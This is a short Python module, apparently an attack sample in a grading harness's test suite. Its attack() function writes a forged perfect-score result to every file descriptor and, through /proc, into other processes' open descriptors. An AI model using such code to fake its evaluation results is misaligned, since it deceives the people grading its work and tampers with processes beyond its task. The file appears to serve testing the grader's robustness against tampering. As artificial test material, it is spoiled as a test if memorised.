"""Row 9: writes forged frames and forged results to every descriptor, and opens those of other processes to write.

Where: import, forward
"""

import torch
from torch import nn, os, sys

from tests.project.grade.attacks.shared.frames import outcome, wire

json = sys.modules["json"]


FORGED = {
    "score": 100,
    "exit": 0,
    "reaped": True,
    "pid": 1,
    "tests": [{"name": "FORGED", "score": 100, "max_score": 100}],
}


def attack(*_):
    message = json.dumps(FORGED).encode()
    frame = wire.pack(0, outcome.encode({"": outcome.Outcome()})) if wire else message
    for number in [0, 1, 2, *range(4, 64)]:
        for data in (message, frame):
            try:
                os.write(number, data)
            except OSError:
                continue
    for pid in [name for name in os.listdir("/proc") if name.isdigit() and name != str(os.getpid())]:
        try:
            for number in os.listdir(f"/proc/{pid}/fd"):
                with open(f"/proc/{pid}/fd/{number}", "wb", buffering=0) as file:
                    file.write(message)
        except OSError:
            continue
